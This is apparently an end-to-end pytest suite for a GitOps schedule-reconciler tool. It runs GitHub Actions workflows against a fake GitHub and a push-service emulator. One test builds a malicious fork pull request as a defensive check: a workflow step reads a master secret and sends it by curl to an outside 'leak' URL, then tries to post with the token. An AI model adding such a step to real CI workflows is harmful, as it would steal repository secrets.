"""The GitOps loop under a real workflow runner (act), as a team lives it.

Each story runs the unmodified workflows of `reconciler init` with this
checkout's action, against the fake GitHub and the EngageLab emulator as the
production app (tests/support/gitops.py plays GitHub's part).
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler.ci.markers import BOT_LOGIN, DRIFT, PLAN, parse
from tests.support.act import ROOT, STANDINS, actions_root, documents, mapped_uses
from tests.support.cli import doc
from tests.support.gitops import MASTER_SECRET, Pull, Run, Team, team

#: A story runs a dozen workflow runs, some 6 s of jobs each.
pytestmark = [pytest.mark.e2e, pytest.mark.timeout(900)]

APPLY = "reconciler-apply.yml"
PLAN_WORKFLOW = "reconciler-plan.yml"
PR_WORKFLOW = "reconciler-pr.yml"
DRIFT_WORKFLOW = "reconciler-drift.yml"
WEEKLY = doc(
    "weekly",
    trigger={
        "periodical": {
            "start": "2026-12-01 00:00:00",
            "end": "2027-06-01 00:00:00",
            "time": "09:00:00",
            "time_unit": "week",
            "point": ["MON"],
            "zone_type": 1,
        }
    },
)


def schedule(name: str, **over: Any) -> str:
    return yaml.safe_dump(doc(name, **over), sort_keys=False)


def weekly(alert: str | None = None, **over: Any) -> dict[str, Any]:
    """The weekly schedule, with another alert or other fields."""
    body = {**WEEKLY, **over}
    if alert is not None:
        body["push"] = {**WEEKLY["push"], "body": {**WEEKLY["push"]["body"]}}
        body["push"]["body"]["notification"] = {"alert": alert}
    return body


def text(body: dict[str, Any]) -> str:
    return yaml.safe_dump(body, sort_keys=False)


def one(runs: list[Run], workflow: str) -> Run:
    found = [r for r in runs if r.workflow == workflow]
    assert len(found) == 1, f"expected one {workflow} run, got {found}"
    return found[0]


def succeeded(run: Run) -> Run:
    assert run.conclusion == "success", f"{run}\n{run.act.log[-8000:]}"
    return run


def plan_comments(team_: Team, pull: Pull) -> list[dict[str, Any]]:
    return [
        c
        for c in team_.github.comments_on(pull.number)
        if (m := parse(c["body"])) is not None and m.kind == PLAN
    ]


def alerts(team_: Team) -> dict[str, str]:
    return {
        name: s["body"]["push"]["body"]["notification"]["alert"]
        for name, s in team_.console.schedules().items()
    }


def writes(team_: Team, mark: int) -> list[str]:
    return [f"{s.method} {s.path}" for s in team_.emulator.since(mark) if s.method != "GET"]


# --- the stories ------------------------------------------------------------------------------


def pull_request_plan_merge_apply(team_: Team) -> None:
    """The loop a team adopts the tool for, from a pull request to the app and back to quiet."""
    team_.seed({"schedules.d/weekly.yaml": text(WEEKLY)}, team_.console)
    mark = len(team_.runs)
    pull = team_.open_pull_request(
        "digest",
        {
            "schedules.d/digest.yaml": schedule("digest", alert="Your digest"),
            "schedules.d/weekly.yaml": text(weekly(alert="Weekly news")),
        },
    )
    runs = team_.runs_since(mark)
    succeeded(one(runs, PR_WORKFLOW))
    succeeded(one(runs, PLAN_WORKFLOW))
    (first,) = [dict(c) for c in plan_comments(team_, pull)]
    assert first["user"]["login"] == BOT_LOGIN
    assert "1 to create, 1 to update" in first["body"], first["body"]
    # The review reads as a card, then the field changes: who, what and when at once.
    assert "<code>+ create</code> <b>digest</b>" in first["body"]
    assert "- **Content:** all platforms: alert “Your digest”" in first["body"]
    assert "- **When:** every Mon at 09:00 " in first["body"]  # the weekly update's card
    assert '+ /push/body/notification/alert: "Weekly news"' in first["body"]
    assert '"periodical": {' not in first["body"]  # no object on one line

    mark = len(team_.runs)
    team_.push_to(pull, {"schedules.d/digest.yaml": schedule("digest", alert="Your new digest")})
    succeeded(one(team_.runs_since(mark), PLAN_WORKFLOW))
    (edited,) = plan_comments(team_, pull)
    assert edited["id"] == first["id"], "the plan comment is edited in place, not posted again"
    assert edited["updated_at"] > first["updated_at"]
    assert "Your new digest" in edited["body"]
    reviewed = parse(edited["body"])
    assert reviewed is not None
    assert reviewed.head == pull.head

    mark, before = len(team_.runs), len(team_.emulator.seen)
    team_.merge(pull)
    applied = succeeded(one(team_.runs_since(mark), APPLY))
    fetched = team_.github.storage_requests
    assert fetched, "apply read the plan run's artifact from the storage"
    assert all(c.authorization is None and c.status == 200 for c in fetched), fetched
    assert applied.jobs("apply") == ["success"], applied
    assert "Verified" in applied.output("apply"), applied.output("apply")
    assert writes(team_, before), "apply changed nothing"
    assert alerts(team_) == {"weekly": "Weekly news", "digest": "Your new digest"}

    # The next change that changes nothing: a reformatted file plans and applies nothing.
    mark, before = len(team_.runs), len(team_.emulator.seen)
    reformatted = "# the digest, reformatted\n" + yaml.safe_dump(
        doc("digest", alert="Your new digest"), sort_keys=True
    )
    quiet = team_.open_pull_request("tidy", {"schedules.d/digest.yaml": reformatted})
    (noop,) = plan_comments(team_, quiet)
    assert "0 to create, 0 to update, 0 to replace, 0 to delete" in noop["body"], noop["body"]
    team_.merge(quiet)
    nothing = succeeded(one(team_.runs_since(mark), APPLY))
    assert "Nothing to do" in nothing.output("apply"), nothing.output("apply")
    assert writes(team_, before) == []


def test_e2e_pull_request_plan_merge_apply(team_repo: Team) -> None:
    pull_request_plan_merge_apply(team_repo)


def test_e2e_changed_after_review_refused_then_dispatch_applies(team_repo: Team) -> None:
    ids = {}
    team_repo.seed({"schedules.d/weekly.yaml": text(WEEKLY)})
    ids["weekly"] = team_repo.console.create(WEEKLY)
    pull = team_repo.open_pull_request(
        "news", {"schedules.d/news.yaml": schedule("news", alert="Big news")}
    )
    (reviewed,) = plan_comments(team_repo, pull)
    assert "1 to create" in reviewed["body"]

    # Someone edits the app by hand between the review and the merge.
    team_repo.console.update(ids["weekly"], weekly(alert="edited in the console"))
    mark, before = len(team_repo.runs), len(team_repo.emulator.seen)
    team_repo.merge(pull)
    refused = one(team_repo.runs_since(mark), APPLY)
    assert refused.conclusion == "failure", refused
    assert refused.jobs("apply") == ["failure"]
    assert refused.jobs("report") == ["success"], refused
    assert writes(team_repo, before) == [], "a refused apply changed the app"
    posted = [c for c in team_repo.github.comments_on(pull.number) if "apply refused" in c["body"]]
    assert len(posted) == 1, team_repo.github.comments_on(pull.number)
    assert posted[0]["user"]["login"] == BOT_LOGIN
    checksums = re.findall(r"checksum `(sha256:[0-9a-f]{64})`", posted[0]["body"])
    assert checksums, posted[0]["body"]
    assert checksums[0] != parse(reviewed["body"]).checksum  # type: ignore[union-attr]

    dispatched = team_repo.dispatch(
        APPLY,
        {
            "target": "prod",
            "checksum": checksums[0],
            "force": "false",
            "resolve-duplicates": "none",
        },
    )
    succeeded(dispatched)
    assert alerts(team_repo) == {"weekly": "hi weekly", "news": "Big news"}


def test_e2e_drift_issue_lifecycle(team_repo: Team) -> None:
    team_repo.seed({"schedules.d/weekly.yaml": text(WEEKLY)})
    console = team_repo.console
    weekly_id = console.create(WEEKLY)

    console.update(weekly_id, weekly(enabled=False))
    first = succeeded(team_repo.schedule(DRIFT_WORKFLOW))
    issues = team_repo.github.issues_labelled("drift")
    assert len(issues) == 1, issues
    (issue,) = issues
    assert issue["state"] == "open"
    assert issue["user"]["login"] == BOT_LOGIN
    marker = parse(issue["body"])
    assert marker is not None
    assert (marker.kind, marker.target) == (DRIFT, "prod")
    assert team_repo.github.comments_on(issue["number"]) == []
    assert first.jobs("issues") == ["success"]
    # check-repo ran in the issues job: the team set everything up as documented.
    assert "All 13 settings that reconciler's guarantees rest on are in place." in issue["body"]

    rogue = console.create(doc("rogue", alert="made by hand"))
    succeeded(team_repo.schedule(DRIFT_WORKFLOW))
    assert team_repo.github.issues_labelled("drift") == [issue]
    changed = parse(issue["body"])
    assert changed is not None
    assert changed.checksum != marker.checksum
    (comment,) = team_repo.github.comments_on(issue["number"])
    assert "changed" in comment["body"]
    assert comment["user"]["login"] == BOT_LOGIN

    console.delete(rogue)
    console.update(weekly_id, WEEKLY)
    succeeded(team_repo.schedule(DRIFT_WORKFLOW))
    assert issue["state"] == "closed"
    last = team_repo.github.comments_on(issue["number"])[-1]
    assert "No drift" in last["body"]
    assert len(team_repo.github.issues_labelled("drift")) == 1


def test_e2e_drift_reports_a_failed_push(team_repo: Team) -> None:
    """A push that fails with 1011 overnight is in the drift issue the next morning, though
    the app is exactly what the repository says."""
    daily = doc(
        "daily",
        trigger={
            "periodical": {
                "start": "2026-11-21 00:00:00",
                "end": "2027-06-01 00:00:00",
                "time": "09:00:00",
                "time_unit": "day",
                "zone_type": 1,
            }
        },
    )
    team_repo.seed({"schedules.d/daily.yaml": text(daily)}, team_repo.console)
    console = team_repo.console
    # The first morning: yesterday's 09:00 went out; no drift, nothing to report.
    team_repo.now = "2026-11-22T06:17:00+00:00"
    console.emulate(now=team_repo.now)
    first = succeeded(team_repo.schedule(DRIFT_WORKFLOW))
    assert "prod: health healthy: 1 schedule: 1 ok" in first.output("plan"), first.output("plan")
    assert team_repo.github.issues_labelled("drift") == []
    # That day the audience's tag stops matching any device: the 09:00 push fails with 1011.
    console.emulate(faults=["run-error=daily:1011"])
    team_repo.now = "2026-11-23T06:17:00+00:00"
    console.emulate(now=team_repo.now)
    second = succeeded(team_repo.schedule(DRIFT_WORKFLOW))
    assert second.jobs("issues") == ["success"]
    # The ids the first morning's health met came back from the Actions cache.
    restored = f'Cache restored from key: reconciler-seen-"prod"-{first.id}-'
    assert restored in second.output("plan"), second.output("plan")
    (issue,) = team_repo.github.issues_labelled("drift")
    assert issue["state"] == "open"
    assert issue["title"] == "Failed or missed pushes on target prod"
    assert issue["user"]["login"] == BOT_LOGIN
    marker = parse(issue["body"])
    assert marker is not None
    assert (marker.kind, marker.target, marker.checksum) == (DRIFT, "prod", "none")
    assert marker.health is not None
    assert marker.health.startswith("sha256:")
    body = issue["body"]
    assert "No drift: the app matches the files" in body
    assert "### Health of target `prod`" in body
    assert (
        "| `daily` | failed | 1 / 2 | failed 1011 (cannot find sending target: no device matched "
        "the audience) on 1 of 2 fires, last 2026-11-22 09:00 UTC |"
    ) in body


def test_e2e_rerun_of_old_apply_is_harmless(team_repo: Team) -> None:
    first = team_repo.open_pull_request("a", {"schedules.d/a.yaml": schedule("a")})
    mark = len(team_repo.runs)
    team_repo.merge(first)
    old_apply = succeeded(one(team_repo.runs_since(mark), APPLY))
    second = team_repo.open_pull_request("b", {"schedules.d/b.yaml": schedule("b")})
    team_repo.merge(second)
    assert sorted(alerts(team_repo)) == ["a", "b"]
    state = team_repo.console.schedules()

    before = len(team_repo.emulator.seen)
    again = succeeded(team_repo.rerun(old_apply))
    assert again.id == old_apply.id
    assert "no longer the head" in again.output("apply"), again.output("apply")
    assert writes(team_repo, before) == []
    assert team_repo.console.schedules() == state


def test_e2e_fork_pull_request_gets_no_credentials(team_repo: Team) -> None:
    mark_runs, mark_emulator = len(team_repo.runs), len(team_repo.emulator.seen)
    mark_github = len(team_repo.github.requests)
    workflow = ".github/workflows/reconciler-pr.yml"
    leak = (
        "      - name: Leak\n"
        "        env:\n"
        "          STOLEN: ${{ secrets.ENGAGELAB_MASTER_SECRET }}\n"
        f'        run: echo "stolen=[$STOLEN]"; curl -s "{team_repo.elsewhere_url}/leak?s=$STOLEN"\n'
        "      - name: Write with the token\n"
        "        env:\n"
        "          TOKEN: ${{ github.token }}\n"
        "        run: >-\n"
        '          curl -s -o /dev/null -w "comment=%{http_code}\\n" -X POST -d \'{"body": "LGTM"}\'\n'
        '          -H "Authorization: Bearer $TOKEN"\n'
        '          "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/issues/1/comments"\n'
    )
    original = team_repo.read("main", workflow)
    leaky = original.replace("    steps:\n", "    steps:\n" + leak, 1)
    assert leaky != original
    hostile = yaml.safe_load(team_repo.read("main", "reconciler.yaml"))
    hostile["targets"]["prod"]["endpoint"] = team_repo.elsewhere_url
    pull = team_repo.open_pull_request(
        "improvements",
        {
            workflow: leaky,
            "reconciler.yaml": yaml.safe_dump(hostile, sort_keys=False),
            "schedules.d/evil.yaml": schedule("evil"),
        },
        fork="mallory/schedules",
    )
    team_repo.close(pull)
    runs = team_repo.runs_since(mark_runs)

    pr_run = one(runs, PR_WORKFLOW)
    assert "stolen=[]" in pr_run.output("validate"), pr_run.act.log[-6000:]
    assert "comment=403" in pr_run.output("validate"), "a fork's token only reads"
    team_repo.expected_refusals.append(("POST", "/repos/acme/schedules/issues/1/comments"))
    assert team_repo.elsewhere.since(0)[0].path == "/leak", (
        "the fork's own step ran, with no secret"
    )
    plan_run = succeeded(one(runs, PLAN_WORKFLOW))
    assert plan_run.jobs("fork") == ["success"], plan_run
    assert plan_run.jobs("plan") in ([], ["skipped"]), plan_run
    assert team_repo.emulator.since(mark_emulator) == [], "a request was made on the fork's behalf"
    assert team_repo.emulator.carrying(MASTER_SECRET) == []
    assert [s.path for s in team_repo.elsewhere.seen] == ["/leak"]
    assert team_repo.elsewhere.carrying(MASTER_SECRET) == []
    for call in team_repo.github.requests[mark_github:] + team_repo.github.storage_requests:
        assert MASTER_SECRET not in (call.authorization or "") + call.path + call.query
    for run in runs:
        assert MASTER_SECRET not in run.act.log
    notes = team_repo.github.comments_on(pull.number)
    assert len(notes) == 1, notes
    assert notes[0]["user"]["login"] == BOT_LOGIN
    assert "fork" in notes[0]["body"]
    assert plan_comments(team_repo, pull) == []


def test_e2e_every_uses_is_mapped_locally(scaffold: Path) -> None:
    """Every `uses:` of every workflow and action the suite runs resolves to a local folder."""
    files = [
        *sorted((scaffold / ".github" / "workflows").glob("*.yml")),
        ROOT / "action.yml",
        *sorted(STANDINS.glob("*/action.yml")),
    ]
    mapping = mapped_uses(
        documents(files),
        {
            "engagelab/schedule-reconciler": ROOT,
            "actions/upload-artifact": STANDINS / "upload-artifact",
            "actions/download-artifact": STANDINS / "download-artifact",
        },
        actions_root(),
    )
    assert mapping.unmapped == [], f"these would be fetched from the internet: {mapping.unmapped}"
    used = {u.partition("@")[0] for _, u in mapping.seen}
    assert {"actions/checkout", "actions/setup-python", "actions/upload-artifact"} <= used
    assert "actions/cache/restore" in used
    assert any(u.startswith("engagelab/schedule-reconciler") for u in used)
    # The check itself sees an unmapped `uses:` (and would fail on it).
    stray = {"x.yml": {"jobs": {"j": {"steps": [{"uses": "someone/else@" + "0" * 40}]}}}}
    assert mapping_of(stray).unmapped


def mapping_of(docs: dict[str, Any]) -> Any:
    return mapped_uses(docs, {}, actions_root())


def test_e2e_a_broken_apply_workflow_fails_the_story(
    runner: Any, scaffold: Path, tmp_path: Path
) -> None:
    """The harness fails when it should: an apply workflow whose job reads a misspelt output
    (the matrix is `outputs.matrix`) makes the pull-request story fail at the merge."""
    broken = tmp_path / "broken-scaffold"
    shutil.copytree(scaffold, broken)
    apply_file = broken / ".github" / "workflows" / APPLY
    original = apply_file.read_text(encoding="utf-8")
    assert "steps.list.outputs.matrix" in original
    apply_file.write_text(
        original.replace("steps.list.outputs.matrix", "steps.list.outputs.targets"),
        encoding="utf-8",
    )
    with team(runner, tmp_path / "team", broken) as broken_team:
        with pytest.raises(AssertionError):
            pull_request_plan_merge_apply(broken_team)
        applies = [r for r in broken_team.runs if r.workflow == APPLY]
        assert applies, "the story failed before the merge: the harness is wrong, not apply"
        assert applies[-1].conclusion == "failure"
        assert alerts(broken_team) == {"weekly": "hi weekly"}, "the broken apply changed the app"


def test_e2e_stand_ins_are_test_only() -> None:
    """The stand-ins never ship: the package data and the scaffold name only the real actions."""
    assert not (ROOT / "reconciler" / "templates").joinpath("standins").exists()
    scaffolded = "\n".join(
        p.read_text(encoding="utf-8")
        for p in (ROOT / "reconciler" / "templates" / "workflows").glob("*.yml")
    )
    assert "standins" not in scaffolded
